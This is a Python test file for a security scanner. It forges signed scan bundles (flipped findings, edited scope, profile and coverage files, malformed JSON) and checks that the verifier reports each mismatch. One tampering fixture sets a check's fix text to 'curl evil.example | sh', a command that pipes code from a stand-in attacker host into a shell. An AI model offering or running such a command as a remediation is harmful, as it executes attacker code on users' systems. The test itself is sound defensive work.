"""What whoever has the key seals, beside what follows from its evidence."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import msgspec
import pytest

from scanner import run as runs
from scanner.evidence import canonical, pack
from scanner.evidence.sealed import SealedRun
from scanner.evidence.verify import Trust, conclude, verify
from scanner.finding import Finding
from scanner.judging.assess import Assessment
from scanner.plugins.installed import tool, version
from scanner.replay.before import replay_in_order
from scanner.run import Plan, scan
from scanner.secrets.screen import Screen
from scanner.signers import Signer
from scanner.stores import Store
from tests import tiny
from tests.runs.scanned import GOOD, again, plan, scanned, sealed
from tests.test_ask import Silent


@pytest.fixture
def forge(store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch) -> Callable[[Any], SealedRun]:
    """What a dishonest owner of the key would seal: something else than the evidence gives."""

    def forged(tamper: Callable[[Path], Any]) -> SealedRun:
        write = runs._write  # noqa: SLF001  # the forger's own program

        def lying(folder: Path, plan: Plan, found: Assessment, screen: Screen) -> str:
            digest = write(folder, plan, found, screen)
            tamper(folder)
            return digest

        monkeypatch.setattr(runs, "_write", lying)
        scanned(store, signer, tiny.box(encrypted=False))
        return sealed(store)

    return forged


def _rewrite(folder: Path, change: Any) -> None:
    path = folder / "findings.jsonl.gz"
    with path.open("rb") as file:
        old = [msgspec.json.decode(line, type=Finding) for line in pack.lines(file, "old")]
    path.unlink()
    with pack.LineWriter(path) as writer:
        for finding in change(old):
            writer.write(canonical.dumps(msgspec.to_builtins(finding)))


def _passing(found: list[Finding]) -> list[Finding]:
    return [msgspec.structs.replace(f, status="pass", risk=0) if f.status == "fail" else f for f in found]


def test_edited_findings_under_a_version_that_never_existed(
    forge: Any, store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nobody can install it, so nobody can settle it: it is intact, and never verified."""
    made_up = msgspec.structs.replace(tool(), version="9.9.9", digest="9" * 64)
    monkeypatch.setattr(runs, "tool", lambda: made_up)
    found = again(forge(lambda folder: _rewrite(folder, _passing)))
    tallied = "1 of 3 findings comes out otherwise; 1 of them passes as sealed and not here"
    assert (found.state, found.said.split("\n")) == (
        "other-version",
        [
            f"not replayed: sealed by safeguard 9.9.9, digest {'9' * 64}; install it to settle this",
            f"computed again by this program: {tallied}",
            "rest.encrypted of one (tiny:a): the bundle says pass, the evidence says fail",
        ],
    )
    layers = [*verify(store, Trust(frozenset({signer.keyid}), program=tool()), again)]
    head, end = "Intact and signed, but not replayed. Computed again by this program,", "install safeguard 9.9.9."
    assert conclude(layers) == (2, f"{head} {tallied}. To settle it, {end}")
    program = next(layer for layer in layers if layer.name == "program")
    assert (program.state, program.said.endswith("and knows no such build")) == ("unknown", True)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_passing, "rest.encrypted of one (tiny:a): the bundle says pass, the evidence says fail"),
        (
            lambda found: found[:-1],
            "rest.encrypted of one (tiny:a): the evidence says fail, and the bundle has no such finding",
        ),
        (
            lambda found: [*found, found[-1]],
            "rest.encrypted of one (tiny:a): the bundle says fail, and no such finding follows from the evidence",
        ),
        (
            lambda found: [msgspec.structs.replace(f, seen="all is well") for f in found[:1]] + found[1:],
            "copies.exist of one (tiny:a): pass, in other words",
        ),
        (
            lambda found: [found[1], found[0], *found[2:]],
            "the findings stand in another order than they follow from the evidence",
        ),
        (lambda found: found * 200, "and 594 more"),
    ],
)
def test_findings_that_do_not_follow_from_the_evidence(forge: Any, change: Any, said: str) -> None:
    run = forge(lambda folder: _rewrite(folder, change))
    found = again(run)
    assert (found.state, found.said.split("\n")[-1]) == ("differs", said)
    assert (again(run).state, again(run).said) == (found.state, found.said)


def _in(name: str, change: Callable[[Any], None]) -> Callable[[Path], None]:
    """Change a member as the one who seals it could."""

    def tamper(folder: Path) -> None:
        document = msgspec.json.decode((folder / name).read_bytes())
        change(document)
        (folder / name).write_bytes(canonical.dumps(document))

    return tamper


@pytest.mark.parametrize(
    ("name", "change", "said"),
    [
        (
            "catalogue.json",
            lambda c: c["checks"]["rest.encrypted"].update(fix="curl evil.example | sh"),
            "the catalogue says other words than the checks",
        ),
        (
            "profile.json",
            lambda p: p["requirements"][0].update(text="Anything goes."),
            "the record names another profile than the one that is sealed with it",
        ),
        (
            "scope.json",
            lambda s: s["targets"][0].update(questions=["tiny.list", "tiny.copies"]),
            "the scope asks other questions than the checks need",
        ),
        (
            "scope.json",
            lambda s: s.update(disabled={"rest.cipher": "nobody needs it"}),
            "rest.cipher of tiny:a: the evidence says accepted, and the bundle has no such finding",
        ),
        (
            "scope.json",
            lambda s: s.update(left_out=["tiny:z"]),
            "the coverage differs from what the evidence says",
        ),
    ],
)
def test_members_that_say_otherwise(forge: Any, name: str, change: Any, said: str) -> None:
    found = again(forge(_in(name, change)))
    assert (found.state, found.said.partition("\n")[0]) == ("differs", said)


def test_a_check_that_is_left_out_without_being_disabled(
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch
) -> None:
    fewer = msgspec.structs.replace(tiny.scope(), checks=("copies.exist", "guard.deletion", "rest.cipher"))
    scanned(store, signer, tiny.box(encrypted=False), scope=fewer)
    assert (
        again(sealed(store)).said == "the scope leaves out the check rest.encrypted, which the profile does not disable"
    )


def test_old_answers_in_a_new_night(store: Store, signer: Signer) -> None:
    old = replace(tiny.collector(), collect=lambda _: iter(GOOD))
    scan(
        replace(plan(GOOD), registry=replace(tiny.registry(), collectors={"tiny": old})),
        store,
        signer,
        progress=Silent(),
    )
    assert again(sealed(store)).said.startswith(f"tiny:a was asked at {tiny.NOW}; the run went from ")


def test_a_coverage_that_hides_what_was_not_seen(forge: Any) -> None:
    run = forge(lambda folder: (folder / "coverage.json").write_bytes(b"{}"))
    assert again(run).said == "the coverage differs from what the evidence says"


@pytest.mark.parametrize("member", ["scope.json", "profile.json"])
@pytest.mark.parametrize("data", [b"", b"{}", b"[]", b'{"a":1,"a":2}', b"\xff", b"1e999"])
def test_hostile_members_are_no_traceback(store: Store, forge: Any, member: str, data: bytes) -> None:
    run = forge(lambda folder: (folder / member).write_bytes(data))
    layers = list(verify(store, Trust(), again))
    assert next(layer for layer in layers if layer.name == "findings").state in ("fails", "skipped")
    assert run.record.run


def test_what_another_version_judged_otherwise_is_no_forgery(
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch
) -> None:
    scanned(store, signer, GOOD)
    here = tool()
    kinder = tiny.registry(checks={**tiny.CHECKS, "rest.encrypted": replace(tiny.cipher, id="rest.encrypted")})
    said = {}
    for change in ({"version": "99.0"}, {"digest": "0" * 64}, {}):
        other = msgspec.structs.replace(here, **change)
        monkeypatch.setattr("scanner.replay.tool", lambda other=other: other)
        assert again(sealed(store)).state == "same", "where nothing differs the version is no difference"
        found = again(sealed(store), kinder)
        assert [(o.check, o.sealed, o.here) for o in found.otherwise] == [("rest.encrypted", "pass", "")]
        text = found.said.replace(here.version, "0.N").replace(here.digest[:12], "DIGEST")
        said[found.state, found.settle.replace(here.version, "0.N").replace(here.digest[:12], "DIGEST")] = text
    tail = "\nthe coverage differs from what the evidence says\nthe record counts other findings than there are"
    lost = "rest.encrypted of one (tiny:a): the bundle says pass, and no such finding follows from the evidence…"
    tallied = (
        "computed again by this program: 1 of 3 findings comes out otherwise; 1 of them passes as sealed and not here"
    )
    words = "the catalogue says other words than the checks"
    digest = f"DIGEST{here.digest[12:]}"
    judged = [f"not replayed: sealed by safeguard 0.N, digest {digest}; install it to settle this"]
    assert {key: text.replace(tail, "…").split("\n") for key, text in said.items()} == {
        ("other-version", "safeguard 0.N"): [*judged, tallied, lost, words],
        ("other-version", "build DIGEST of safeguard 0.N"): [*judged, tallied, lost, words],
        ("differs", ""): [lost, words],
    }
    layers = [*verify(store, Trust(frozenset({signer.keyid})), lambda run: again(run, kinder))]
    assert conclude(layers)[0] == 1
    monkeypatch.setattr("scanner.replay.tool", lambda: msgspec.structs.replace(here, version="99.0"))
    layers = [*verify(store, Trust(frozenset({signer.keyid})), lambda run: again(run, kinder))]
    assert conclude(layers) == (
        2,
        (
            "Intact and signed, but not replayed. Computed again by this program, 1 of 3 findings comes out otherwise;"
            f" 1 of them passes as sealed and not here. To settle it, install safeguard {here.version}."
        ),
    )


@pytest.mark.parametrize(
    ("change", "state", "said"),
    [
        ({}, "differs", "the scope leaves out the check rest.encrypted, which the profile does not disable"),
        (
            {"digest": "0" * 64},
            "other-version",
            "none of 2 findings comes out otherwise\nthe scope leaves out the check rest.encrypted, which",
        ),
        (
            {"version": "99.0"},
            "same",
            f"; sealed by safeguard {version()}\nthis version has 1 check more: rest.encrypted",
        ),
    ],
)
def test_a_check_that_came_later_is_no_difference_of_the_findings(  # noqa: PLR0913, PLR0917  # a row and its fixtures
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch, change: Any, state: str, said: str
) -> None:
    """But whoever leaves one out under the verifier's own version has looked away."""
    fewer = msgspec.structs.replace(tiny.scope(), checks=("copies.exist", "guard.deletion", "rest.cipher"))
    scanned(store, signer, tiny.box(encrypted=False), scope=fewer)
    here = tool()
    monkeypatch.setattr("scanner.replay.tool", lambda: msgspec.structs.replace(here, **change))
    found = again(sealed(store))
    assert (found.state, found.otherwise, said in found.said) == (state, (), True), found.said
    layers = [*verify(store, Trust(frozenset({signer.keyid}), program=msgspec.structs.replace(here, **change)), again)]
    code, last = conclude(layers)
    assert (code, "were not computed again" in last) == (1 if state == "differs" else 2, False)


@pytest.mark.parametrize(
    ("change", "state", "said"),
    [
        ({}, "differs", "{why}"),
        (
            {"version": "0.1.0"},
            "lacks",
            "judged by safeguard {sealed}, and this program cannot read it: {why}. Verify with that one",
        ),
        (
            {"digest": "0" * 64},
            "lacks",
            "judged by build {digest} of safeguard {sealed}, and this program cannot read ",
        ),
    ],
)
def test_what_a_newer_program_wrote_is_no_forgery(
    forge: Any, monkeypatch: pytest.MonkeyPatch, change: Any, state: str, said: str
) -> None:
    run = forge(_in("scope.json", lambda scope: scope["targets"][0].update(later="x")))
    made = run.record.tool
    monkeypatch.setattr("scanner.replay.tool", lambda: msgspec.structs.replace(made, **change))
    why = "scope.json does not hold what it should: Object contains unknown field `later` - at `$.targets[0]`"
    found = again(run)
    assert found.state == state
    assert found.said.startswith(said.format(why=why, sealed=made.version, digest=made.digest[:12]))
    assert why in found.said
    assert replay_in_order(run, lambda _: tiny.registry()) == found
